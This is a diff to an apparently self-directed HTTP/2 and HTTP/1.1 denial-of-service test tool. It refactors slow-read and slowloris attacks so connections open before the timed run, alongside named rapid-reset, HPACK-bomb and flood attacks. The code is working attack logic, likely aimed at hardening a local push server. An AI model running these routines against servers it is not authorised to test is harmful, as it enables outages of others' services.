@@ -271,18 +271,33 @@ async def unfinished(args, tally, deadline):
     await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 100)))
 
 
-async def slow_read(args, tally, deadline):
-    """Window 0 for the server's answers, the socket never read (a 4 KB reader buffer)."""
+async def connect_all(args, tally, count, context=None):
+    """`count` connections (TLS with `context`), opened before the attack's time starts: this
+    process's own handshakes may take a while on a busy machine. The ones that opened."""
     async def one():
         try:
-            reader, writer = await connect(args, tally, limit=4096)
+            reader, writer = await asyncio.wait_for(
+                asyncio.open_connection(args.host, args.port, ssl=context, limit=4096,
+                                        server_hostname="localhost" if context else None), 30)
+            tally.connections += 1
+            return reader, writer
         except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
             tally.refused += 1
             tally.error(e)
-            return
+            return None
+    opened = await asyncio.gather(*(one() for _ in range(count)))
+    return [pair for pair in opened if pair]
+
+
+async def slow_read(args, tally, deadline):
+    """Window 0 for the server's answers, the socket never read (a 4 KB reader buffer)."""
+    connections = await connect_all(args, tally, args.connections or 200, client_context() if args.tls else None)
+    deadline = time.monotonic() + args.seconds
+    body = b'{"aps":{"content-available":1},"pad":"' + b"p" * 3000 + b'"}'
+
+    async def one(writer):
         try:
             encoder = Encoder()
-            body = b'{"aps":{"content-available":1},"pad":"' + b"p" * 3000 + b'"}'
             out = bytearray(PREFACE + settings((INITIAL_WINDOW_SIZE, args.window)) + frame(SETTINGS, ACK, 0))
             for stream in range(1, 2 * args.streams, 2):
                 block = request_block(encoder, args, path=args.path, body_length=len(body))
@@ -295,7 +310,7 @@ async def slow_read(args, tally, deadline):
             tally.error(e)
         finally:
             writer.transport.abort()
-    await bounded(deadline, *(one() for _ in range(args.connections or 200)))
+    await bounded(deadline, *(one(writer) for _, writer in connections))
 
 
 async def tls_slowloris(args, tally, deadline):
@@ -335,20 +350,15 @@ async def tls_slowloris(args, tally, deadline):
 async def h1_slowloris(args, tally, deadline):
     """An HTTP/1.1 request whose header lines come one a second, never ending (over TLS with
     ALPN http/1.1 when --tls)."""
-    async def one():
-        try:
-            ctx = None
-            if args.tls:
-                ctx = client_context()
-                ctx.set_alpn_protocols(["http/1.1"])
-            reader, writer = await asyncio.wait_for(
-                asyncio.open_connection(args.host, args.port, ssl=ctx,
-                                        server_hostname="localhost" if ctx else None), 10)
-        except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
-            tally.refused += 1
-            tally.error(e)
-            return
-        tally.connections += 1
+    context = None
+    if args.tls:
+        context = client_context()
+        context.set_alpn_protocols(["http/1.1"])
+    # Over TLS fewer: this process's own handshakes would take long.
+    connections = await connect_all(args, tally, args.connections or (150 if args.tls else 500), context)
+    deadline = time.monotonic() + args.seconds
+
+    async def one(reader, writer):
         reading = asyncio.ensure_future(drain_reader(reader, tally))
         try:
             await send(writer, tally, b"POST %s HTTP/1.1\r\nHost: localhost\r\n" % args.path.encode())
@@ -362,8 +372,7 @@ async def h1_slowloris(args, tally, deadline):
         finally:
             reading.cancel()
             writer.transport.abort()
-    # Over TLS fewer: this process's own handshakes would take the attack's time.
-    await bounded(deadline, *(one() for _ in range(args.connections or (150 if args.tls else 500))))
+    await bounded(deadline, *(one(reader, writer) for reader, writer in connections))
 
 
 ATTACKS = {f.__name__: f for f in (rapid_reset, continuation, hpack_bomb, ping_flood, settings_flood, empty_data,
@@ -396,7 +405,7 @@ def main():
     started = time.monotonic()
     deadline = started + args.seconds
     try:
-        asyncio.run(asyncio.wait_for(ATTACKS[args.attack](args, tally, deadline), args.seconds + 15))
+        asyncio.run(asyncio.wait_for(ATTACKS[args.attack](args, tally, deadline), args.seconds + 45))
     except asyncio.TimeoutError:
         tally.error(asyncio.TimeoutError())
     print(json.dumps({"attack": args.attack, "seconds": round(time.monotonic() - started, 2),
